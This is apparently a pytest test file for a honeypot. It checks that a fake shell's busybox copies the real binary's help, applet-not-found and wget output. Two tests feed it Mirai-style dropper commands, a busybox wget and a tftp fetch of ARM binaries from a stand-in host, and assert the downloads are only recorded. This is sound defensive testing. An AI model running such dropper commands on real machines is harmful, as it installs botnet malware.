"""The fake host's busybox against Debian 12's real binary on this machine: help text,
``--list``, ``applet not found`` (wording and status); and busybox's own wget wording."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
from tests.conftest import unavailable

from phantomnet.deception.host import FakeHost
from phantomnet.deception.shell import Shell


def real(*args: str) -> tuple[int, bytes, bytes]:
    exe = shutil.which("busybox")
    if exe is None:
        unavailable("busybox not installed")
    assert exe is not None
    proc = subprocess.run([exe, *args], capture_output=True, timeout=10, check=False)
    return proc.returncode, proc.stdout, proc.stderr


@pytest.fixture
def shell(tmp_path: Path) -> Shell:
    return Shell(FakeHost.load(tmp_path), "198.51.100.4", user="root")


@pytest.mark.parametrize(
    "args",
    [(), ("--list",), ("MIRAI",), ("ECCHI",), ("apt",)],
    ids=["help", "list", "mirai", "ecchi", "not-an-applet"],
)
async def test_busybox_answers_like_the_real_one(shell: Shell, args: tuple[str, ...]) -> None:
    status, out, err = real(*args)
    result = await shell.run(" ".join(("/bin/busybox", *args)))
    assert (result.status, result.stdout, result.stderr) == (status, out, err)


async def test_busybox_wget_is_recorded_never_fetched(shell: Shell) -> None:
    result = await shell.run("/bin/busybox wget http://198.51.100.7/bins/x.arm7 -O /tmp/.x")
    assert result.status == 0
    assert result.stderr.startswith(b"Connecting to 198.51.100.7 (198.51.100.7:80)\n")
    assert b"saving to '/tmp/.x'\n" in result.stderr
    assert result.stderr.endswith(b"'/tmp/.x' saved\n")
    assert [d.url for d in result.downloads] == ["http://198.51.100.7/bins/x.arm7"]
    assert shell.fs.exists("/tmp/.x") and not Path("/tmp/.x").exists()
    tftp = await shell.run("busybox tftp -g -r m.arm 198.51.100.7")
    assert tftp.downloads and tftp.downloads[0].url == "tftp://198.51.100.7/m.arm"


async def test_enable_lists_bash_s_builtins_like_bash(shell: Shell) -> None:
    bash = shutil.which("bash")
    assert bash is not None
    real_out = subprocess.run([bash, "-c", "enable"], capture_output=True, timeout=10).stdout
    result = await shell.run("enable")
    assert (result.status, result.stdout) == (0, real_out)
    bad = await shell.run("enable nosuchbuiltin")
    assert bad.status == 1 and bad.stderr == b"-bash: enable: nosuchbuiltin: not a shell builtin\n"
